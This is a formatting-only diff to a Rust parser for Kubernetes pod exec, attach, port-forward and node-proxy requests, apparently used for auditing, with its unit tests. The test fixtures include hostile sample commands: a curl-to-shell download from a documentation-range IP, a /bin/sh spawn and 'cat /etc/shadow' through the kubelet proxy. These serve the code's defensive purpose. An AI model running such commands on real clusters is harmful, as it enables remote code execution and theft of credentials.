@@ -121,7 +121,14 @@ impl ExecInfo {
 fn kubelet_target(path: &str) -> Option<String> {
     let rest = path.split_once("/proxy/").map(|(_, r)| r)?;
     let endpoint = rest.split('/').next().unwrap_or_default();
-    let streaming = ["run", "exec", "attach", "portForward", "cri", "containerLogs"];
+    let streaming = [
+        "run",
+        "exec",
+        "attach",
+        "portForward",
+        "cri",
+        "containerLogs",
+    ];
     streaming
         .contains(&endpoint)
         .then(|| format!("/{}", percent_decode_str(rest).decode_utf8_lossy()))
@@ -235,7 +242,8 @@ mod tests {
 
     #[test]
     fn plus_is_space_and_percent_decodes() {
-        let e = exec("/api/v1/namespaces/d/pods/p/exec?command=echo+hi%20there&command=%2Fbin%2Fsh");
+        let e =
+            exec("/api/v1/namespaces/d/pods/p/exec?command=echo+hi%20there&command=%2Fbin%2Fsh");
         assert_eq!(e.command, vec!["echo hi there", "/bin/sh"]);
     }
 
@@ -243,15 +251,22 @@ mod tests {
     fn every_command_value_is_kept_in_order() {
         let uri = "/api/v1/namespaces/shop/pods/web-0/exec?command=sh&command=-c&command=curl+-s+http%3A%2F%2F203.0.113.50%2Fx.sh+%7C+sh&container=web&stdin=true&stdout=true&tty=true";
         let e = exec(uri);
-        assert_eq!(e.command, vec!["sh", "-c", "curl -s http://203.0.113.50/x.sh | sh"]);
-        assert_eq!(e.command_line, "sh -c 'curl -s http://203.0.113.50/x.sh | sh'");
+        assert_eq!(
+            e.command,
+            vec!["sh", "-c", "curl -s http://203.0.113.50/x.sh | sh"]
+        );
+        assert_eq!(
+            e.command_line,
+            "sh -c 'curl -s http://203.0.113.50/x.sh | sh'"
+        );
         assert_eq!(e.container.as_deref(), Some("web"));
         assert!(e.stdin && e.stdout && e.tty && !e.stderr);
     }
 
     #[test]
     fn literal_json_escaped_ampersand_is_repaired() {
-        let e = exec("/api/v1/namespaces/d/pods/p/exec?command=id\\u0026container=c\\u0026stdout=true");
+        let e =
+            exec("/api/v1/namespaces/d/pods/p/exec?command=id\\u0026container=c\\u0026stdout=true");
         assert_eq!(e.command, vec!["id"]);
         assert_eq!(e.container.as_deref(), Some("c"));
         assert!(e.stdout);
@@ -279,9 +294,19 @@ mod tests {
 
     #[test]
     fn attach_and_portforward() {
-        let a = ExecInfo::from_request("pods", "attach", "/api/v1/namespaces/d/pods/p/attach?container=c&stdin=true&tty=true").unwrap();
+        let a = ExecInfo::from_request(
+            "pods",
+            "attach",
+            "/api/v1/namespaces/d/pods/p/attach?container=c&stdin=true&tty=true",
+        )
+        .unwrap();
         assert!(a.command.is_empty() && a.stdin && a.tty);
-        let p = ExecInfo::from_request("pods", "portforward", "/api/v1/namespaces/d/pods/db-0/portforward?ports=5432").unwrap();
+        let p = ExecInfo::from_request(
+            "pods",
+            "portforward",
+            "/api/v1/namespaces/d/pods/db-0/portforward?ports=5432",
+        )
+        .unwrap();
         assert_eq!(p.ports, vec!["5432"]);
     }
 
@@ -295,8 +320,13 @@ mod tests {
         .unwrap();
         assert_eq!(n.kind, StreamKind::NodeProxy);
         assert_eq!(n.command, vec!["cat /etc/shadow"]);
-        assert_eq!(n.target.as_deref(), Some("/run/kube-system/kube-proxy-x/kube-proxy"));
-        assert!(ExecInfo::from_request("nodes", "proxy", "/api/v1/nodes/n/proxy/metrics").is_none());
+        assert_eq!(
+            n.target.as_deref(),
+            Some("/run/kube-system/kube-proxy-x/kube-proxy")
+        );
+        assert!(
+            ExecInfo::from_request("nodes", "proxy", "/api/v1/nodes/n/proxy/metrics").is_none()
+        );
     }
 
     #[test]
